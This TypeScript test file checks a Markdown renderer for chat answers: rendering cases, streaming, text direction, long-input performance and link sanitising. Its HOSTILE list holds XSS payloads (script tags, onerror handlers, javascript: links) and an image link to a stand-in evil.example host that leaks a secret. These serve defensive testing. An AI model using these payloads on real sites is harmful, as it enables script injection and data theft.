// What answers look like: the elements and the text that come of Markdown, whole and while it streams.

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { lex } from "../src/lib/lexer";
import { safeLink } from "../src/lib/links";
import { MarkdownStream } from "../src/lib/markdown";
import { outline, render, stream } from "./rendering.svelte.ts";

const code = (language: string, text: string): string =>
  `<div class="code"><div class="code-bar"><span class="code-language">${language}</span></div><pre><code>${text}</code></pre></div>`;

const link = (href: string, text = href): string => `<a href="${href}">${text}</a>`;

/** What people saw go wrong: the source, and what has to be shown. */
const CASES: [name: string, source: string, shown: string][] = [
  ["snake", "the user_id field is set, see MAX_TOKENS too.\n\nEdit /etc/my_app/config_file.yml and set GEMINI_API_KEY.",
    "<p>the user_id field is set, see MAX_TOKENS too.</p><p>Edit /etc/my_app/config_file.yml and set GEMINI_API_KEY.</p>"],
  ["unclosed", "def f(*args, **kwargs): takes *args and **kwargs.\n\nA lone ` backtick here and more text.",
    "<p>def f(*args, **kwargs): takes *args and **kwargs.</p><p>A lone ` backtick here and more text.</p>"],
  ["brackets", "call f[i](x) and a[0], see [1].", "<p>call f[i](x) and a[0], see [1].</p>"],
  ["table with names", "| user_id | name |\n|---|---|\n| max_tokens_x | b |\n\nafter",
    '<div class="table"><table><thead><tr><th>user_id</th><th>name</th></tr></thead><tbody><tr><td>max_tokens_x</td><td>b</td></tr></tbody></table></div><p>after</p>'],
  ["plain table", "Name | Age\n--- | :-:\nBob | 5",
    '<div class="table"><table><thead><tr><th>Name</th><th class="center">Age</th></tr></thead><tbody><tr><td>Bob</td><td class="center">5</td></tr></tbody></table></div>'],
  ["CRLF", "Run this:\r\n\r\n```sh\r\nls -l\r\n```\r\n\r\nThen **read** the output.\r\n\r\n- one\r\n- two\r\n",
    `<p>Run this:</p>${code("sh", "ls -l")}<p>Then <strong>read</strong> the output.</p><ul><li>one</li><li>two</li></ul>`],
  ["code in a list", "1. Install:\n\n   ```sh\n   npm i\n   ```\n\n2. Run:\n\n   ```sh\n   npm start\n   ```\n\n3. Done",
    `<ol><li><p>Install:</p>${code("sh", "npm i")}</li><li><p>Run:</p>${code("sh", "npm start")}</li><li><p>Done</p></li></ol>`],
  ["tildes", "~~~py\nx_1 = 1\n~~~\nafter", `${code("py", "x_1 = 1")}<p>after</p>`],
  ["nested fences", "```markdown\n# T\n```js\nx\n```\nmore\n```\nafter",
    `${code("markdown", "# T\n```js\nx\n```\nmore")}<p>after</p>`],
  ["an open fence", "```js\nlet a_b = 1;", code("js", "let a_b = 1;")],
  ["an open fence of Markdown", "```md\n# T\n```js\nx\n```\nmore", code("md", "# T\n```js\nx\n```\nmore")],
  ["entities", "kill -9 &lt;pid&gt; &amp; go &#169; &#x1F600; &nosuch; &amp;lt;",
    "<p>kill -9 &lt;pid&gt; &amp; go © 😀 &amp;nosuch; &amp;lt;</p>"],
  ["entities in code", "`&lt;` and\n\n    &amp;", `<p><code>&amp;lt;</code> and</p>${code("", "&amp;amp;")}`],
  ["relative links", "See [the docs](docs/api.md) and [here](/help).", "<p>See the docs (docs/api.md) and here (/help).</p>"],
  ["addresses in a sentence", "Go to https://example.com/page. Or (see https://example.com/other), then https://example.com/third, done.",
    `<p>Go to ${link("https://example.com/page")}. Or (see ${link("https://example.com/other")}), then ${link("https://example.com/third")}, done.</p>`],
  ["addresses with marks", "https://en.wikipedia.org/wiki/A_(b) www.example.com! 请看https://example.com/a。谢谢",
    `<p>${link("https://en.wikipedia.org/wiki/A_(b)")} ${link("http://www.example.com/", "www.example.com")}! 请看${link("https://example.com/a")}。谢谢</p>`],
  ["an address before Chinese punctuation", "见 https://example.com/a_b。谢谢", `<p>见 ${link("https://example.com/a_b")}。谢谢</p>`],
  ["Japanese emphasis", "**この文は太字（bold）。**この文のせい", "<p><strong>この文は太字（bold）。</strong>この文のせい</p>"],
  ["Chinese emphasis", "这是**“重点”**内容，*（注）*也是。", "<p>这是<strong>“重点”</strong>内容，<em>（注）</em>也是。</p>"],
  ["mathematics without marks", "x_1, x_2, ..., x_n and y^2, 2*3*4", "<p>x_1, x_2, ..., x_n and y^2, 2<em>3</em>4</p>"],
  ["money", "It costs $5 and then $6, from $3-$4, or 10 US$. Set $HOME/$USER.",
    "<p>It costs $5 and then $6, from $3-$4, or 10 US$. Set $HOME/$USER.</p>"],
  ["tags", "<b>bold?</b> and <details>\n**x**\n</details>", "<p>&lt;b&gt;bold?&lt;/b&gt; and &lt;details&gt;\n<strong>x</strong>\n&lt;/details&gt;</p>"],
  ["strikethrough and tasks", "~~gone~~ ~one~\n\n- [x] done\n- [ ] open",
    '<p><s>gone</s> <s>one</s></p><ul><li class="task"><input>done</li><li class="task"><input>open</li></ul>'],
  ["a list that begins elsewhere", "3. three\n4. four\n   - deep", "<ol start=\"3\"><li>three</li><li>four<ul><li>deep</li></ul></li></ol>"],
  ["references", "[a] and [the second][b]\n\n[a]: https://a.example\n[b]: https://b.example",
    `<p>${link("https://a.example/", "a")} and ${link("https://b.example/", "the second")}</p>`],
  ["an image", "![a cat](https://example.org/cat.png)", `<p>${link("https://example.org/cat.png", "Image: a cat")}</p>`],
];

describe("answers", () => {
  test.each(CASES)("P4: %s: shown as it was meant", (_, source, shown) => {
    expect(outline(render(source))).toBe(shown);
  });

  test.each(CASES)("P4: %s: shown the same when it comes in pieces", (_, source) => {
    const whole = render(source).outerHTML;
    for (const step of [1, 5]) {
      const pieces = source.match(new RegExp(`[^]{1,${step}}`, "g")) ?? [];
      expect(stream(pieces).outerHTML).toBe(whole);
    }
  });

  test("P4: formulas are formulas, whatever stands around them", () => {
    const root = render("Euler $e^{i\\pi}+1=0$ and \\(a_1 + b_2\\):\n\n\\[\n\\frac{a}{b}\n- c\n\\]\n\n$$\nx=1\n$$\n\n$a*b$ and $c*d$ *yes*");
    const sources = [...root.querySelectorAll("code")].map((one) => one.textContent);
    expect(sources).toEqual(["e^{i\\pi}+1=0", "a_1 + b_2", "\\frac{a}{b}\n- c", "x=1", "a*b", "c*d"]);
    expect(root.querySelectorAll("pre.formula")).toHaveLength(2);
    expect([...root.querySelectorAll("em")].map((one) => one.textContent)).toEqual(["yes"]);
    expect(root.textContent).not.toMatch(/\$|\\\[|\\\(/);
  });

  test("P9: every block finds its own direction", () => {
    const root = render("مرحبا! هذه إجابة.\n\n- البند الأول (مهم)\n- `code`\n\n| عمود | قيمة |\n|---|---|\n| أ | ب |\n\nAnd English.");
    const directions = [...root.children].map((one) => one.getAttribute("dir") ?? one.firstElementChild?.getAttribute("dir"));
    expect(directions).toEqual(["auto", "rtl", "rtl", "auto"]);
  });
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<br onmouseover=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/v1/profile)",
  "[x](<javascript:alert(1)>)",
  '[x](javascript:alert(1) "title")',
  '[x](https://a.example/" onclick="alert(1))',
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?leak=secret)",
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  "```<script>\nalert(1)\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![y](data:a) |\n",
  "$<script>alert(1)</script>$",
  "\\[\n<iframe src=javascript:alert(1)>\n\\]",
  "> # [x](javascript:alert(1))\n> - ![x](javascript:alert(1))",
];

const ELEMENTS =
  "a p h3 h4 h5 h6 code em strong s blockquote br hr ul ol li div span pre button input table thead tbody tr th td".split(" ");
const ATTRIBUTES = new Set(
  "href rel target title class type tabindex role aria-label start disabled checked dir".split(" "),
);

function expectHarmless(root: HTMLElement, source: string): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ELEMENTS, source).toContain(element.localName);
    for (const { name } of element.attributes) expect(ATTRIBUTES, source).toContain(name);
    const href = element.getAttribute("href");
    if (href !== null) {
      expect(href, source).toMatch(/^(https?:\/\/|mailto:|#)/);
      expect(element.getAttribute("rel"), source).toBe("noopener noreferrer nofollow");
    }
  }
}

/** What makes Markdown hard: everything that opens, closes and continues something. */
const STARTS = "|# |## |- |- [x] |1. |2. |> |> - |  |    |\t|```|```md|~~~|===|---|:-|$$|\\[|\\]|[a]: https://a.b|<script>|\u0000".split("|");
const MARKS =
  "*|**|_|__|`|``|[|]|(|)|](|![|](javascript:x)|](https://a.b/c)|https://a.b|~~|$|\\(|\\)|\\|<br|>|<!--|-->|word|two words| |[a]|&lt;|&amp|;|太字|。|（|مرحبا|<https://a.b>|😀|\r".split("|");
const ENDS = ["\n", "\n", "\n\n", "\n\n", "\r\n", "", "\n| a | b |\n|---|---|\n| c | d |\n"];
const MARK = fc.oneof(
  { weight: 9, arbitrary: fc.constantFrom(...MARKS, "|", "word") },
  { weight: 1, arbitrary: fc.string({ maxLength: 3 }) },
);
const LINE = fc.tuple(fc.constantFrom(...STARTS, "", "", ""), fc.array(MARK, { maxLength: 6, size: "max" }), fc.constantFrom(...ENDS));
const MARKDOWN = fc
  .array(LINE, { maxLength: 14, size: "max" })
  .map((lines) => lines.map(([start, marks, end]) => start + marks.join("") + end).join(""));

const visible = (text: string): string => text.replace(/\s+/g, "");
const plainText = (source: string): string => source.replace(/\r\n?/g, "\n").replaceAll("\u0000", "\u{FFFD}");

describe("hostile and broken Markdown", () => {
  test.each(HOSTILE)("makes nothing that runs or loads out of %s", (source) => {
    for (const step of [1, 7, source.length]) {
      const pieces = source.match(new RegExp(`[^]{1,${step}}`, "g")) ?? [];
      expectHarmless(stream(pieces), source);
    }
  });

  test("makes nothing that runs or loads out of anything", () => {
    let elements = 0;
    fc.assert(
      fc.property(MARKDOWN, (source) => {
        const root = render(source);
        elements += root.querySelectorAll("*").length;
        expectHarmless(root, source);
      }),
      { numRuns: 60 },
    );
    expect(elements).toBeGreaterThan(500);
  }, 60_000);

  test("P4: no character is lost or doubled: what was read adds up to what came, at every cut", () => {
    let cuts = 0;
    let frozen = 0;
    fc.assert(
      fc.property(MARKDOWN, fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 8 }), (source, steps) => {
        const growing = new MarkdownStream();
        let before: unknown;
        for (let at = 0, turn = 0; at < source.length; turn += 1, cuts += 1) {
          at += steps[turn % steps.length]!;
          const part = source.slice(0, at).replace(/\r$/, "");
          const tokens = growing.read(source.slice(0, at), false);
          // The lexer itself trims white space around list items.
          expect(visible(tokens.map(({ raw }) => raw).join(""))).toBe(visible(plainText(part)));
          // The same as if it had come at once.
          expect(tokens).toEqual(lex(plainText(part)).tokens);
          if (tokens[0] && tokens[0] === before && tokens.length > 3) frozen += 1;
          before = tokens[0];
        }
        expect(growing.read(source, true)).toEqual(lex(plainText(source)).tokens);
      }),
      { numRuns: 250 },
    );
    expect(cuts).toBeGreaterThan(3000);
    expect(frozen).toBeGreaterThan(300);
  }, 60_000);

  test("P4: what is drawn in pieces is what is drawn at once", () => {
    fc.assert(
      fc.property(MARKDOWN, fc.integer({ min: 3, max: 30 }), (source, step) => {
        const pieces = source.match(new RegExp(`[^]{1,${step}}`, "g")) ?? [];
        expect(outline(stream(pieces))).toBe(outline(render(source)));
      }),
      { numRuns: 25 },
    );
  }, 60_000);

  const LONG = 100_000;
  const ENDLESS: Record<string, string> = {
    brackets: "[", "open links": "[a](b", "images": "![", stars: "*", "stars with letters": "*a ", "strong and em": "**a *b ", underlines: "_a ", tildes: "~a ",
    backticks: "`a``b", quotes: "> ", "lists in a line": "- ", "deeper lists": "- a\n  ", numbers: "1. a\n", dollars: "$a ", "open formulas": "\\(a", "open display formulas": "\\[a ",
    tags: "<a ", comments: "<!-- ", entities: "&a1;", "made-up entities": "&x", addresses: "https://a.b/(", "addresses of mail": "a@b.", definitions: "[a]: b\n", "open fences": "```a\n", tables: "| a ",
    "rows of a table": "|a|b|\n|-|-|\n", "setext lines": "a\n=\n", "fences of Markdown": "```md\n", "lazy quotes": "> > a\nb\n", "quoted lists": "> - a\n", escapes: "\\*", "Japanese": "**。", "code in brackets": "[`", "nested links": "[a][", "spaces": " ", "tabs": "\t", "blank lines": "\n \n",
  };

  test.each(Object.entries(ENDLESS))("P4: 100,000 characters of %s are shown, and nothing gets stuck", (_, unit) => {
    const source = unit.repeat(LONG / unit.length);
    const begin = performance.now();
    const { tokens } = lex(source);
    // Alive takes far below a second; what is quadratic takes minutes.
    expect(performance.now() - begin).toBeLessThan(10_000);
    expect(tokens.map(({ raw }) => raw).join("").length).toBe(source.length);
  });

  test("P4: what is nested too deeply is shown as it was written", () => {
    for (const source of [`${"> ".repeat(2000)}tail`, `${"- ".repeat(2000)}tail`, `${"**_".repeat(300)}tail`, `${"[".repeat(500)}tail${"](https://a.b)".repeat(500)}`]) {
      const root = render(source);
      expect(root.textContent).toContain("tail");
      expectHarmless(root, "deep");
    }
  });
});

describe("safe links", () => {
  test("are http, https, mailto and places on this page", () => {
    expect(safeLink("https://example.org/a?b#c")).toBe("https://example.org/a?b#c");
    expect(safeLink("mailto:a@example.org")).toBe("mailto:a@example.org");
    expect(safeLink("#part-2")).toBe("#part-2");
  });

  test("are nothing else", () => {
    for (const target of ["javascript:x", "data:x", "", "x", "/x", "https://", "http:x", "#a b", "blob:x", 'https://example.org "title"']) {
      expect(safeLink(target), target).toBeUndefined();
    }
  });
});
